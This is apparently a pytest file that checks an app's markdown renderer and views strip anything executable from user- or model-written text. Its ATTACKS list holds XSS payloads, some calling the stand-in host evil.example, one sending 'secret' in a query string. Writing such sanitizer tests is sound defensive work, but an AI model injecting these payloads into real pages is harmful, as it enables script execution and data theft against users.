"""Nothing that a user or a model writes can act on the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from everlearn.studio import map_tab, markup
from everlearn.studio.chat_view import conversation
from everlearn.studio.conversation import Turn
from everlearn.studio.lesson_view import forgetting, history, lessons
from everlearn.studio.queues_tab import conflicts_shown, quarantine_shown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[press](javascript:alert(1))",
    "[press](  JaVaScRiPt:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "![see](https://evil.example/?q=secret)",
    "<https://evil.example/>\n\n<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    "`<script>alert(1)</script>`\n\n    <script>\n\n```html\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <iframe src=//evil.example></iframe> |",
    "${alert(1)} {{constructor}} `${1}`",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input></form>",
]
ALLOWED = frozenset(
    (
        *("p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "b", "i", "div", "span"),
        *("table", "canvas", "caption", "thead", "tbody", "tr", "th", "td", "button", "details", "summary", "section"),
        *("svg", "circle", "title"),
    )
)


class Checker(HTMLParser):
    """Fails on any element or attribute that can do something."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in ("src", "srcset", "action", "formaction", "srcdoc", "xlink:href"), name
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:")), value
            if name == "style":
                assert "url(" not in value, value


def check(html):
    Checker().feed(html)
    assert "${" not in html
    assert "{{" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_of_an_answer_holds_nothing_that_acts(attack):
    check(markup.markdown(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_view_shows_text_of_others_as_text(attack):
    lesson = {"id": attack, "prompt": attack, "answer": attack, "table": attack, "domain": attack, "source": attack}
    lesson |= {
        "author": attack,
        "status": "quarantined",
        "quarantine": attack,
        "taught_at": attack,
        "valid_from": attack,
    }
    lesson |= {"valid_to": attack}
    recalled = {"lesson": lesson, "lesson_id": attack, "table": attack, "score": 1.0, "probability": 1.0}
    receipt = {"id": attack, "recalled": [{**recalled, "decision": "spoke"}], "adapter": attack, "as_of": attack}
    turn = Turn(attack, attack, "done", receipt, bare=attack, note=attack)
    told = {"count": 1, "derived": 0, "turns": 0, "adapters": [attack], "backups": [], "restored": [], "ids": [attack]}
    check(conversation([turn, Turn(attack, attack, "failed", note=attack)]))
    check(lessons([lesson], 1, 0, filtered=False))
    check(history([lesson, lesson]))
    check(forgetting(told, [lesson]))
    check(conflicts_shown([[lesson, lesson]]))
    check(quarantine_shown([lesson]))
    places = {"x": [0, 1], "y": [0, 1], "group": [0, 0], "ids": [attack, attack]}
    check(map_tab.lesson(lesson) + map_tab.drawn({**places, "groups": [attack], "total": 3}))
    check(markup.notice(attack) + markup.empty(attack, attack, markup.button(attack, attack, attack, described=attack)))


def test_what_is_written_is_what_is_read():
    class Text(HTMLParser):
        said = ""

        def handle_data(self, data):
            self.said += data

    reader = Text(convert_charrefs=True)
    reader.feed(markup.plain(r"""a < b & "c" ${d} {{e}} `f` \g"""))
    assert reader.said == r"""a < b & "c" ${d} {{e}} `f` \g"""


def test_markdown_is_still_markdown():
    html = markup.markdown(
        "# One\n\n- *two*\n- [three](https://example.org)\n\n```\nfour  five\n```\n\n|a|b|\n|-|-|\n|1|2|"
    )
    assert '<p class="el-heading">One</p>' in html  # no heading of the page's own outline
    assert "<em>two</em>" in html
    assert 'href="https://example.org" target="_blank" rel="noopener noreferrer nofollow"' in html
    assert "<code>four  five\n</code>" in html
    assert re.search(r"<td>2</td>", html)
